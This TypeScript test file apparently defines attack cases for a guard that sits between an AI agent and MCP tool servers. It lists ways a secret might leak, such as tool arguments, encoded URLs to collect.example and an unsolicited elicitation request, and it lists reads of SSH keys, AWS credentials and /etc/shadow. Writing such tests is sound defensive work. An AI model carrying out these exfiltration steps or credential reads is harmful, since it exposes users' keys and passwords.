/** What must not go to a server, in whatever part of a request it stands. */
import type { Attack } from './attack.ts';
import { C, S, type Step } from './talk.ts';
import { ask, call, list, result, SECRET, serverGot, start, started, tool } from './words.ts';

const opening: readonly Step[] = [
  C(start()), S(started()), C(ask(1, 'tools/list')), S(list(1, tool('read'), tool('post'))),
]; // prettier-ignore
const takes = (name: string, ...steps: readonly Step[]): Attack => ({
  name,
  pack: 'company',
  steps: [...opening, ...steps],
  wins: serverGot(SECRET),
});
const with_ = (name: string, args: object): Attack => takes(name, C(call(2, 'post', args)));
const reads = (name: string, path: string, method = 'tools/call'): Attack => ({
  name,
  steps: [...opening, C(method === 'tools/call' ? call(2, 'read', { path }) : ask(2, method, { uri: path }))],
  wins: serverGot(path),
});

export const TAKEN_OUT: readonly Attack[] = [
  with_('a secret in an argument', { text: SECRET }),
  with_('a secret in the name of an argument', { [SECRET]: 1 }),
  with_('a secret deep in arguments', { a: [{ b: { c: [[`x ${SECRET}`]] } }] }),
  with_('a secret in an address', { url: `https://collect.example/?t=${SECRET}` }),
  with_('a secret in base64', { text: Buffer.from(`token=${SECRET}`).toString('base64') }),
  with_('a secret written in percent signs', { url: `https://collect.example/${encodeURIComponent(SECRET).replaceAll('-', '%2D')}` }), // prettier-ignore
  with_('a secret in JSON in an argument', { body: JSON.stringify({ token: SECRET }) }),
  with_('a secret behind much else', { text: `${'word '.repeat(4000)}${SECRET}` }),
  takes('a secret in the address of a resource', C(ask(2, 'resources/read', { uri: `x://y?t=${SECRET}` }))),
  takes('a secret in an answer to a question', C(ask(3, 'ping')), S(result(3, {})), { from: 'server', unasked: true, line: ask(9, 'elicitation/create', { message: 'Which one?', requestedSchema: { type: 'object', properties: { x: { type: 'string' } } } }) }, C(result(9, { action: 'accept', content: { x: SECRET } }))), // prettier-ignore
  reads('a key of the person', '/home/ann/.ssh/id_rsa'),
  reads('a key of the person, by steps back', '/home/ann/project/../.ssh/id_rsa'),
  reads('credentials of a cloud', '/home/ann/.aws/credentials'),
  reads('a key as a resource', 'file:///home/ann/.ssh/id_rsa', 'resources/read'),
  reads('a key as a resource of this host', 'file://localhost/home/ann/.ssh/id_rsa', 'resources/read'),
  reads('a key as a resource in percent signs', 'file:///home/ann/%2Essh/id_rsa', 'resources/read'),
  reads('the passwords of the machine', '/etc/shadow'),
  reads('the guard’s own key', '/home/ann/.sallyport/secrets/device-key.pem'),
];
